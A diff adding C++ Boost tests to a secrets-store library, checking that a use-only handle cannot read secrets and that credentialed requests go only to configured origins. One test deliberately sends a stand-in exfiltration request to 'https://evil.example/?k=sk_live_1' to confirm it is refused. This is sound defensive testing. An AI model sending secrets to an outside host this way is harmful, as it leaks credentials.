@@ -74,6 +74,53 @@ BOOST_AUTO_TEST_CASE(each_call_needs_its_scope) {
     BOOST_CHECK_EXCEPTION((void)reader.list(), Error, denied);
 }
 
+// Seed 003's requestAuthed, for a program or an agent: a handle with only
+// `use` has tresor make requests and cannot read the value by any call.
+BOOST_AUTO_TEST_CASE(a_use_handle_reads_no_value_by_any_call) {
+    Store owner = Store::from_toml(kConfig);
+    tresor::SetOptions options;
+    options.type = tresor::SecretType::bearer_token;
+    options.attributes = {{"origins", "https://api.example.com"}};
+    owner.set({"svc", "k"}, Secret("sk_live_1"), options);
+    Store user = owner.narrowed({Scope::use});
+    BOOST_CHECK_EXCEPTION((void)user.get({"svc", "k"}), Error, denied);
+    BOOST_CHECK_EXCEPTION((void)user.header({"svc", "k"}), Error, denied);
+    BOOST_CHECK_EXCEPTION((void)user.entry({"svc", "k"}), Error, denied);
+    BOOST_CHECK_EXCEPTION((void)user.list(), Error, denied);
+    BOOST_CHECK_EXCEPTION(user.set({"svc", "k"}, Secret("x"), options), Error, denied);
+    const std::vector<tresor::NewSecret> batch{{{"svc", "k"}, Secret("x"), options}};
+    BOOST_CHECK_EXCEPTION(user.set_many(batch), Error, denied);
+    BOOST_CHECK_EXCEPTION((void)user.remove({"svc", "k"}), Error, denied);
+    BOOST_CHECK_EXCEPTION((void)user.narrowed({Scope::read}), Error, denied);
+    // What it may do: a request, refused here before anything is sent (the
+    // origin is not the credential's), the message naming origins only.
+    tresor::HttpRequest request;
+    request.url = "https://evil.example/?k=sk_live_1";
+    BOOST_CHECK_EXCEPTION((void)user.request({"svc", "k"}, request), Error, [](const Error& e) {
+        const std::string what = e.what();
+        return denied(e) && what.find("https://evil.example is not an origin") == 0 &&
+               what.find("https://api.example.com") != std::string::npos;
+    });
+    BOOST_TEST(!user.request({"svc", "missing"}, request).has_value());
+    // A handle without `use` cannot make one, even with every other scope.
+    BOOST_CHECK_EXCEPTION((void)owner.narrowed({Scope::metadata, Scope::read, Scope::store})
+                              .request({"svc", "k"}, request),
+                          Error, denied);
+    BOOST_TEST(std::string(owner.get({"svc", "k"})->view()) == "sk_live_1");
+}
+
+BOOST_AUTO_TEST_CASE(a_credential_without_origins_is_sent_nowhere) {
+    Store owner = Store::from_toml(kConfig);
+    tresor::SetOptions options;
+    options.type = tresor::SecretType::api_key;
+    owner.set({"svc", "k"}, Secret("v"), options);
+    tresor::HttpRequest request;
+    request.url = "https://api.example.com/";
+    BOOST_CHECK_EXCEPTION((void)owner.request({"svc", "k"}, request), Error, [](const Error& e) {
+        return denied(e) && std::string(e.what()).find("names no origins") != std::string::npos;
+    });
+}
+
 BOOST_AUTO_TEST_CASE(a_narrowed_handle_is_never_widened) {
     Store owner = Store::from_toml(kConfig);
     Store applet = owner.narrowed({Scope::store, Scope::metadata});
